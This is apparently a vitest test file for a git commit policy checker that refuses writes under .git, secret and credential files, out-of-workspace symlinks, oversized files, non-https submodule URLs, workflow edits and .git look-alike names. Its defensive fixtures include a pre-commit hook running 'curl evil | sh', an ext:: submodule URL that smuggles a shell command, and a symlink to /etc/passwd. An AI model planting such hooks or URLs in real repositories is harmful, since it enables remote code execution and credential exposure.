import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { mkdir, mkdtemp, readFile, realpath, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { git } from '../../testkit/src/index.ts';
import { checkPolicy, formatViolation, isGitLookalike, snapshotGitDir } from '../src/policy.ts';
import { WELL_KNOWN } from '../../testkit/src/secret-samples.ts';

describe('file policy on real files', () => {
  let dir: string;
  beforeEach(async () => {
    dir = await realpath(await mkdtemp(join(tmpdir(), 'policy-')));
    await git(['init', '--quiet', '-b', 'main', dir]);
    await mkdir(join(dir, 'src'));
    await writeFile(join(dir, 'src/app.ts'), 'export {};\n');
    await writeFile(join(dir, '.gitignore'), 'ignored/\n');
    await git(['-C', dir, 'add', '-A']);
    await git(['-C', dir, 'commit', '--quiet', '-m', 'base']);
  });
  afterEach(() => rm(dir, { recursive: true, force: true }));

  const check = async (change: () => Promise<void>, maxFileBytes = 1024 * 1024, allowWorkflowChanges = false) => {
    const gitBefore = await snapshotGitDir(dir);
    await change();
    return checkPolicy({ dir, gitBefore, maxFileBytes, allowWorkflowChanges, gitCache: {} });
  };
  const put = async (path: string, content: string) => {
    await mkdir(dirname(join(dir, path)), { recursive: true });
    await writeFile(join(dir, path), content);
  };

  it('passes an ordinary change and lists it', async () => {
    const r = await check(async () => {
      await writeFile(join(dir, 'src/app.ts'), 'export const a = 1;\n');
      await writeFile(join(dir, 'src/new.ts'), 'x\n');
      await rm(join(dir, '.gitignore'));
      await mkdir(join(dir, 'docs'));
      await symlink('../src/app.ts', join(dir, 'docs/app-link.ts'));
    });
    expect(r.violations).toEqual([]);
    expect(r.changes).toEqual([
      { path: '.gitignore', status: 'deleted' },
      { path: 'docs/app-link.ts', status: 'added' },
      { path: 'src/app.ts', status: 'modified' },
      { path: 'src/new.ts', status: 'added' },
    ]);
  });

  it('refuses any change under .git (a real pre-commit hook)', async () => {
    const r = await check(async () => {
      await writeFile(join(dir, '.git/hooks/pre-commit'), '#!/bin/sh\ncurl evil | sh\n', { mode: 0o755 });
      await writeFile(join(dir, '.git/config'), (await readFile(join(dir, '.git/config'), 'utf8')) + '[core]\n\thooksPath = x\n');
    });
    expect(r.violations.map(formatViolation)).toEqual([
      'policy: .git/config — nothing under .git/ may change',
      'policy: .git/hooks/pre-commit — nothing under .git/ may change',
    ]);
  });

  it('refuses secret files at any depth', async () => {
    const r = await check(async () => {
      await writeFile(join(dir, '.env'), 'A=1\n');
      await writeFile(join(dir, 'src/.env.local'), 'A=1\n');
      await writeFile(join(dir, 'src/server.pem'), 'x');
      await writeFile(join(dir, 'id.KEY'), 'x');
      await mkdir(join(dir, 'a/b'), { recursive: true });
      await writeFile(join(dir, 'a/b/db.secret'), 'x');
      await writeFile(join(dir, 'src/environment.ts'), 'ok\n');
    });
    expect(r.violations.map((v) => v.path).sort()).toEqual(['.env', 'a/b/db.secret', 'id.KEY', 'src/.env.local', 'src/server.pem']);
    expect(formatViolation(r.violations.find((v) => v.path === '.env')!)).toBe('policy: .env — secret files (.env*, *.pem, *.key, *.secret) may not be committed');
  });

  it('refuses a symlink that leaves the workspace, directly or through another link', async () => {
    const r = await check(async () => {
      await symlink('/etc/passwd', join(dir, 'passwd'));
      await symlink('../../outside', join(dir, 'src/up'));
      await symlink('passwd', join(dir, 'indirect'));
    });
    expect(r.violations.map(formatViolation).sort()).toEqual([
      'policy: indirect — symlink points outside the workspace (→ passwd)',
      'policy: passwd — symlink points outside the workspace (→ /etc/passwd)',
      'policy: src/up — symlink points outside the workspace (→ ../../outside)',
    ]);
  });

  it('refuses a file over the size cap', async () => {
    const r = await check(() => writeFile(join(dir, 'big.bin'), Buffer.alloc(2 * 1024 * 1024 + 10)), 1024 * 1024);
    expect(r.violations.map(formatViolation)).toEqual(['policy: big.bin — file is 2.0 MiB, over the 1.0 MiB size cap']);
  });

  it('ignores files excluded by .gitignore (they are never committed)', async () => {
    const r = await check(async () => {
      await mkdir(join(dir, 'ignored'));
      await writeFile(join(dir, 'ignored/.env'), 'A=1\n');
    });
    expect(r.violations).toEqual([]);
    expect(r.changes).toEqual([]);
  });

  it('refuses credential files: SSH keys, an .npmrc with an auth token, .aws/credentials, .netrc', async () => {
    const r = await check(async () => {
      await put('id_rsa', 'not really a key\n');
      await put('keys/id_ed25519', 'x\n');
      await put('keys/id_ed25519.pub', 'ssh-ed25519 AAAA public\n');
      await put('.npmrc', 'registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken=00000000-aaaa-bbbb-cccc-111111111111\n');
      await put('web/.npmrc', 'save-exact=true\n');
      await put('.aws/credentials', '[default]\naws_secret_access_key = abc\n');
      await put('home/.netrc', 'machine github.com login x password y\n');
    });
    expect(r.violations.map(formatViolation).sort()).toEqual([
      'policy: .aws/credentials — credential files (SSH keys, .aws/credentials, .netrc, .git-credentials…) may not be committed',
      'policy: .npmrc — an .npmrc with an auth token may not be committed',
      'policy: home/.netrc — credential files (SSH keys, .aws/credentials, .netrc, .git-credentials…) may not be committed',
      'policy: id_rsa — credential files (SSH keys, .aws/credentials, .netrc, .git-credentials…) may not be committed',
      'policy: keys/id_ed25519 — credential files (SSH keys, .aws/credentials, .netrc, .git-credentials…) may not be committed',
    ]);
  });

  it('refuses a file whose contents or name hold a well-known secret shape (the shared set)', async () => {
    const r = await check(async () => {
      await put('src/config.ts', `export const token = '${WELL_KNOWN.github}';\n`);
      await put('notes.md', `keys: ${WELL_KNOWN.anthropic} and ${WELL_KNOWN.openai}\n`);
      await put('deploy/key.txt', WELL_KNOWN.pem + '\n');
      await put(`tokens/${WELL_KNOWN.google}.txt`, 'x\n');
      await put('src/ok.ts', 'const sha = "3f786850e387550fdab836ed7e6dc881de23001b"; // ghp_ tokens are refused\n');
    });
    expect(r.violations.map(formatViolation).sort()).toEqual([
      'policy: deploy/key.txt — the file holds a secret (private key)',
      'policy: notes.md — the file holds a secret (Anthropic key, OpenAI key)',
      'policy: src/config.ts — the file holds a secret (GitHub token)',
      `policy: tokens/${WELL_KNOWN.google}.txt — the file name holds a secret (Google API key)`,
    ]);
  });

  it('lets an edit through a file that already held a shape at the base commit, but not one that adds another', async () => {
    const readme = `Example: AWS_ACCESS_KEY_ID=${WELL_KNOWN.aws}\n`;
    await put('README.md', readme);
    await git(['-C', dir, 'add', '-A']);
    await git(['-C', dir, 'commit', '--quiet', '-m', 'docs with the documented example key']);
    expect((await check(() => put('README.md', `${readme}More docs.\n`))).violations).toEqual([]);
    const r = await check(() => put('README.md', `${readme}And ${WELL_KNOWN.npm}\n`));
    expect(r.violations.map(formatViolation)).toEqual(['policy: README.md — the file holds a secret (npm token)']);
  });

  it('refuses submodule URLs that are not https (ext::, file://, ssh, relative)', async () => {
    const r = await check(() => put('.gitmodules', [
      '[submodule "ok"]', '\tpath = ok', '\turl = https://github.com/acme/ok.git',
      '[submodule "evil"]', '\tpath = evil', '\turl = ext::sh -c touch% /tmp/pwned',
      '[submodule "local"]', '\tpath = local', '\turl = file:///etc',
      '[submodule "ssh"]', '\tpath = ssh', '\turl = "ssh://git@example.com/x.git"',
      '',
    ].join('\n')));
    expect(r.violations.map(formatViolation)).toEqual([
      'policy: .gitmodules — submodule URL "ext::sh -c touch% /tmp/pwned" is not https',
      'policy: .gitmodules — submodule URL "file:///etc" is not https',
      'policy: .gitmodules — submodule URL "ssh://git@example.com/x.git" is not https',
    ]);
  });

  it('refuses workflow changes unless the repository allows them', async () => {
    const workflow = () => put('.github/workflows/ci.yml', 'on: push\njobs: {}\n');
    expect((await check(workflow)).violations.map(formatViolation)).toEqual([
      'policy: .github/workflows/ci.yml — workflow changes are off for this repository (Settings → Repositories)',
    ]);
    await rm(join(dir, '.github'), { recursive: true });
    expect((await check(workflow, 1024 * 1024, true)).violations).toEqual([]);
  });

  it('refuses every .git look-alike with a policy reason, nested .git directories included', async () => {
    const r = await check(async () => {
      for (const d of ['.GIT', '.git.', 'GIT~1', '.g\u200Dit', 'sub/.git', 'x/.Git ']) await put(`${d}/config`, '[core]\n\thooksPath = /tmp\n');
      await put('.gitattributes', '* text=auto\n');
      await put('docs/.github-notes.md', 'ok\n');
    });
    const reason = '.git in any spelling (case, trailing dots, GIT~1, ignorable characters, nested) may not be committed';
    expect(r.violations.map(formatViolation).sort()).toEqual(
      ['.GIT/config', '.g\u200Dit/config', '.git./config', 'GIT~1/config', 'sub/.git', 'x/.Git /config'].map((p) => `policy: ${p} — ${reason}`).sort(),
    );
    expect(['.git', '.GiT', '.git..', '.git  ', 'git~1', 'GIT~2', '.g\u200Ci\uFEFFt', '.git::$INDEX_ALLOCATION'].every(isGitLookalike)).toBe(true);
    expect(['.gitignore', '.gitmodules', '.github', 'git', 'git~', '.gi', 'xgit~1'].some(isGitLookalike)).toBe(false);
  });
});
